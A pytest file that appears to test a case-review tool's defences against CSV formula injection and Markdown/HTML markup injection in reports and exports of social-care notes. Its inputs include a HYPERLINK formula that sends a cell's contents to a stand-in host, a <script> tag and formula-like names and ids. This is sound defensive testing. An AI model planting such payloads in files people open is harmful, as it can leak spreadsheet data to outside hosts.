"""Free text in the files reports and exports write, shown as written: a CSV cell a spreadsheet would run as a formula
(OWASP's CSV injection: a cell starting with = + - @, a tab or a carriage return) is neutralised with a leading ' in
the files people open (reports, comments and decisions exports), while the exports casereview imports again keep
their text exact; Markdown reports escape what a viewer would render (a | ending a table cell, <script>, * _ `)."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex

import pytest
from markdown_it import MarkdownIt

from casereview import corpus, registry, tagging
from casereview.escaping import FORMULA_STARTS, TEXT_CELLS, markdown_text, spreadsheet_cell, spreadsheet_text
from casereview.importer import read_notes
from casereview.notes import validate
from casereview.report import quote_text
from casereview.review import ReviewSession
from casereview.workspace import QueueQuery, Workspace

from .conftest import run_cli
from .test_report import parse_html

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'
MARKUP = '| <script>x</script> *y* `z` _w_'
CASE, OTHER_CASE = "CW3-004", "-C|9*"  # a case id a spreadsheet reads as a formula, a | ending a Markdown table cell
TEAM, REVIEWER, SECOND = "@SUM(1+1)", "+A. Inspector", "B. Senior"
PLAIN_NOTE = "-C3"  # a note id of free text
PLAIN_TEXT = f"{FORMULA} Home visit, all well."
COMMENT = f'{FORMULA.replace("click", "comment")} and *this* | that'
#: The lines of the sample's note CW3-004-01 the model quotes, each with the formula before it and markup after.
QUOTED_LINES = ("Weight has dropped from the 9th to the 2nd centile on his Down syndrome chart.",
                "Dad uses cannabis daily.", "Concerns identified:")
#: Labels the two reviewers take opposite sides on, each a concern in one of notes B-1 and -C3 and not the other: a
#: kappa of -1, a figure of casereview's own that must stay a number.
OPPOSED = ("delay_timeliness", "workforce_capacity", "recording_quality")


def _records() -> list[dict]:
    note = next(r for r in read_notes(corpus.default_corpus() / corpus.NOTES_FILE) if r.note_id == "CW3-004-01")
    text = note.text
    for line in QUOTED_LINES:
        assert line in text
        text = text.replace(line, f"{FORMULA} {line[:-1]} {MARKUP}{line[-1]}")
    base = {"date": note.date, "author_role": note.author_role, "note_type": note.note_type, "team": TEAM}
    return [{**base, "note_id": note.note_id, "case_id": CASE, "text": text},
            {**base, "note_id": "B-1", "case_id": OTHER_CASE, "text": note.text},
            {**base, "note_id": PLAIN_NOTE, "case_id": OTHER_CASE, "text": PLAIN_TEXT, "team": "-north"}]


@pytest.fixture(scope="module")
def cells_ws(tmp_path_factory):
    """Notes whose text, ids, case ids and team hold formulas and Markdown, tagged by the shipped model, decided by
    reviewers whose names do too, with a comment of the same kind."""
    folder = tmp_path_factory.mktemp("report-cells") / "ws"
    with Workspace.open(folder) as ws:
        ws.import_notes([validate(r, "cells.jsonl", i) for i, r in enumerate(_records(), 1)], "cells.jsonl")
        model, model_folder = registry.resolve(None, ws)
        tagging.tag(ws, model, model_folder)
        first, second = ReviewSession(ws, REVIEWER, QueueQuery()), ReviewSession(ws, SECOND, QueueQuery())
        for note_id in ("CW3-004-01", "B-1"):  # a concern in each case file: both among the top case files
            first.decide("risk_analysis_gap", "confirmed", note_id)
        first.reject_undecided("CW3-004-01")
        for note_id, (mine, theirs) in (("B-1", ("confirmed", "rejected")), (PLAIN_NOTE, ("rejected", "confirmed"))):
            for label in OPPOSED:
                first.decide(label, mine, note_id)
                second.decide(label, theirs, note_id)
            first.reject_undecided(note_id)
        first.comment(COMMENT, "CW3-004-01")
    return folder


def _quote(ws_folder) -> str:
    """An evidence sentence of CW3-004-01 the reports quote, as the library reads it: with formula and markup."""
    with Workspace.open(ws_folder) as ws:
        evidence = ws.predictions("CW3-004-01")["risk_analysis_gap"].evidence
    quotes = [quote_text(e) for e in evidence]
    quoted = [q for q in quotes if q.startswith(FORMULA) and MARKUP in q]
    assert quoted, quotes  # the model quotes an injected line: else the test tests nothing
    return quoted[0]


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula: starting with = + - @, a tab or a carriage return, and no number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
            return True
        except ValueError:
            return False
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(cell)]


def test_a_spreadsheet_cell_starting_a_formula_is_text_and_numbers_stay_numbers():
    for value in ("=1+2", "+44 20", "-C3", "@SUM(A1)", "\t=1", "\r\n=1", FORMULA):
        assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("\r=1") == "\u240d=1"  # a lone carriage return is drawn (a terminal acts on it): text
    for value in ("CW3-004", "A. Inspector", "", "'twas", " =1", "2024-03-01"):
        assert spreadsheet_cell(value) == value
    # a ' already before a formula's start gets one more: merge reads a decisions CSV back as written
    assert spreadsheet_cell("'=1") == "''=1"
    for value in ("=1+2", "'=1", "''-C3", "'twas", "'", "CW3-004", ""):
        assert spreadsheet_text(spreadsheet_cell(value)) == value
    for value in (-0.03, -1, 0.5, None, True):
        assert spreadsheet_cell(value) is value
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_markdown_text_shows_as_written():
    md = MarkdownIt("commonmark").enable("table")
    for text in ("<script>x</script>", "*y* `z` _w_ [a](b) ~~s~~ \\*", "AT&amp;T &copy;", "social_worker"):
        page = parse_html(md.render(f"- {markdown_text(text)}"))
        assert "".join(page.text).strip() == text and [t for t, _ in page.tags] == ["ul", "li"], text
    assert markdown_text("social_worker") == "social_worker"  # inside a word, _ is no emphasis: left as it reads
    assert markdown_text("a | b\nc") == "a \\| b c"
    assert markdown_text(None) == "–"


def test_report_csv_neutralises_free_text_and_keeps_figures_numbers(cells_ws, tmp_path):
    out = tmp_path / "report.csv"
    done = run_cli("report", "-o", str(out), "-w", str(cells_ws))
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    groups = {r["group"] for r in rows}
    assert {"'" + TEAM, "'-north", "'" + OTHER_CASE, f"'{REVIEWER}~model"} <= groups
    # casereview's own figures: a negative kappa is written as a number, not as text
    kappas = [float(r["estimate"]) for r in rows if r["measure"] == "kappa" and r["estimate"]]
    assert min(kappas) < 0
    assert all(not r["estimate"].startswith("'") for r in rows if r["section"] != "parameters")
    assert {r["measure"]: r["value"] for r in rows if r["section"] == "parameters"}["text_cells"] == TEXT_CELLS


def test_report_markdown_and_html_show_quotes_and_names_as_written(cells_ws):
    quote = _quote(cells_ws)
    md = run_cli("report", "--format", "md", "-w", str(cells_ws))
    assert md.returncode == 0, md.stderr
    _check_markdown(md.stdout, [quote, OTHER_CASE, TEAM, REVIEWER])
    html = run_cli("report", "--format", "html", "-w", str(cells_ws))
    page = parse_html(html.stdout)
    assert page.count("script") == 0 and quote in "".join(page.text)


def _check_markdown(text: str, shown: list[str]) -> None:
    """Markdown rendered as a viewer renders it (raw HTML allowed): each of ``shown`` reads as written, no tag of
    the text's own (a <script>, an emphasis, a code span) is made, and every table row keeps its header's cells."""
    html = MarkdownIt("commonmark").enable("table").render(text)
    page = parse_html(html)
    assert page.count("script") == 0 and page.count("em") == 0 and page.count("code") == 0, html
    rendered = " ".join("".join(page.text).split())
    for value in shown:
        assert value in rendered, value
    for block in html.split("<table>")[1:]:
        head = len(re.findall(r"<th[ >]", block.split("</thead>")[0]))
        rows = block.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:] if "<tbody>" in block else []
        assert all(len(re.findall(r"<td[ >]", row)) == head for row in rows), block


def test_report_case_csv_neutralises_free_text(cells_ws, tmp_path):
    quote = _quote(cells_ws)
    out = tmp_path / "case.csv"
    done = run_cli("report", "--case", CASE, "-o", str(out), "-w", str(cells_ws))
    assert done.returncode == 0, done.stderr
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "'" + quote in [r["quote"] for r in rows if r["section"] == "concern"]
    assert {r["reviewer"] for r in rows if r["section"] == "concern"} == {"'" + REVIEWER}
    other = run_cli("report", "--case", OTHER_CASE, "--format", "csv", "-w", str(cells_ws))
    assert other.returncode == 0, other.stderr
    assert _formula_cells(other.stdout) == []
    other_rows = list(csv.DictReader(io.StringIO(other.stdout)))
    assert "'" + PLAIN_NOTE in [r["note_id"] for r in other_rows if r["section"] == "note"]
    assert {"measure": "case_id", "value": "'" + OTHER_CASE}.items() <= next(
        r for r in other_rows if r["measure"] == "case_id").items()
    # figures stay numbers: the summary's counts
    assert all(r["notes"].isdigit() for r in other_rows if r["section"] == "summary")
    assert {"measure": "text_cells", "value": TEXT_CELLS}.items() <= other_rows[-1].items()


def test_report_case_markdown_and_html_show_quotes_and_ids_as_written(cells_ws):
    quote = _quote(cells_ws)
    md = run_cli("report", "--case", CASE, "--format", "md", "-w", str(cells_ws))
    assert md.returncode == 0, md.stderr
    _check_markdown(md.stdout, [quote, REVIEWER])
    md_other = run_cli("report", "--case", OTHER_CASE, "--format", "md", "-w", str(cells_ws))
    _check_markdown(md_other.stdout, [f"Case file report: {OTHER_CASE}", PLAIN_NOTE])
    html = run_cli("report", "--case", CASE, "--format", "html", "-w", str(cells_ws))
    page = parse_html(html.stdout)
    assert page.count("script") == 0 and quote in "".join(page.text)


def test_comments_and_decisions_csv_exports_neutralise_free_text_and_their_json_lines_are_exact(cells_ws, tmp_path):
    comments = run_cli("export", "comments", "--format", "csv", "-w", str(cells_ws))
    assert comments.returncode == 0, comments.stderr
    assert _formula_cells(comments.stdout) == []
    row = next(csv.DictReader(io.StringIO(comments.stdout)))
    assert (row["comment"], row["reviewer"], row["note_id"]) == ("'" + COMMENT, "'" + REVIEWER, "CW3-004-01")
    exact = run_cli("export", "comments", "-w", str(cells_ws))
    assert json.loads(exact.stdout.splitlines()[0])["comment"] == COMMENT
    decisions = run_cli("export", "decisions", "--format", "csv", "-w", str(cells_ws), "--allow-pii")
    assert decisions.returncode == 0, decisions.stderr
    assert _formula_cells(decisions.stdout) == []
    rows = list(csv.DictReader(io.StringIO(decisions.stdout)))
    assert {"'" + REVIEWER, SECOND} == {r["reviewer"] for r in rows}
    assert "'" + PLAIN_NOTE in {r["note_id"] for r in rows}
    assert all(float(r["score"]) >= 0 for r in rows if r["score"])  # numbers, not text


@pytest.mark.parametrize("kind", ["notes", "labels"])
def test_notes_and_labels_csv_exports_keep_text_exact_for_import_again(cells_ws, tmp_path, kind):
    # casereview imports these again: a ' before "-C3" or "=HYPERLINK" would change the notes (their hashes, ids)
    out = tmp_path / f"{kind}.csv"
    done = run_cli("export", kind, "--format", "csv", "-o", str(out), "-w", str(cells_ws), "--allow-pii")
    assert done.returncode == 0, done.stderr
    # ...and says how many cells a spreadsheet opening it would run: a note id, 2 case ids, 3 teams and a text
    assert "note: 7 cells of this CSV start like a spreadsheet formula" in done.stderr
    assert "through its import dialog with every column as text" in done.stderr
    rows = {r["note_id"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
    assert rows[PLAIN_NOTE]["text"] == PLAIN_TEXT and rows[PLAIN_NOTE]["team"] == "-north"
    assert rows[PLAIN_NOTE]["case_id"] == OTHER_CASE
    again = tmp_path / "again"
    imported = run_cli("import", str(out), "-w", str(again))
    assert imported.returncode == 0, imported.stderr
    with Workspace.open(cells_ws) as ws, Workspace.open(again) as other:
        before = {n.note_id: (n.text, n.case_id, n.extra.get("team")) for n in ws.iter_notes()}
        after = {n.note_id: (n.text, n.case_id, n.extra.get("team")) for n in other.iter_notes()}
    assert after == (before if kind == "notes" else {k: v for k, v in before.items() if k in rows})


def test_every_html_template_escapes_what_it_is_given_and_no_markdown_one_does():
    from casereview.report import environment

    env = environment()
    names = env.list_templates()
    assert {"report.html", "case_report.html", "_report_head.html", "_report_macros.html"} <= set(names)
    for name in names:
        assert env.autoescape(name) is name.endswith(".html"), name  # md: escaped by the md filter, not as HTML


def _heading(markdown: str) -> str:
    """The text of a Markdown document's first heading, as a viewer shows it."""
    page = parse_html(MarkdownIt("commonmark").render(markdown.split("\n\n")[0]))
    assert page.count("h1") == 1, markdown
    return "".join(page.text).strip()


@pytest.mark.parametrize("value", ["C1 #", "C1 ##", "#", "C1 # ", "C1 \\#"])
def test_a_trailing_hash_stays_in_a_markdown_heading(value):
    # "# Title #": a closing sequence of #s after a space is no part of a heading's text (CommonMark)
    assert _heading(f"# Case file report: {markdown_text(value)}") == f"Case file report: {value.rstrip()}"
    for plain in ("C#1", "C1 #b", "#b"):  # no closing sequence: left as it reads
        assert markdown_text(plain) == plain


def test_the_audit_reports_name_and_command_to_draw_it_again_show_as_written(tmp_path):
    from casereview import report, sampling

    # a line break would end the command's code block, and " #" its heading; 'sample --name' refuses a line break
    # now (names.check_name), so this is an audit saved by a casereview before it did
    name = "March QA #\n<b>x</b> *y* | `z`"
    with Workspace.open(tmp_path / "ws") as ws:
        ws.import_notes([validate({"note_id": f"n{i}", "text": "Home visit.", "case_id": f"C{i}"}, "n.jsonl", i)
                         for i in range(1, 4)], "n.jsonl")
        drawn = sampling.draw(ws.note_facts(), sampling.SampleSpec(size=2, seed=3), ws.current_model_version())
        ws.create_audit(name, drawn.params(name), drawn.items)
        data = report.build(ws, name, check=None)
    text = report.render_markdown(data)
    assert _heading(text) == "Concern report: audit March QA # <b>x</b> *y* | `z`"
    html = MarkdownIt("commonmark").render(text)
    page = parse_html(html)
    assert page.count("b") == page.count("em") == 0 and page.count("pre") == 1, html
    command = html.split("<pre><code>")[1].split("</code></pre>")[0]
    assert shlex.split(command.replace("&lt;", "<").replace("&gt;", ">").strip()) == shlex.split(data.params["command"])
    assert shlex.split(data.params["command"])[-1] == name
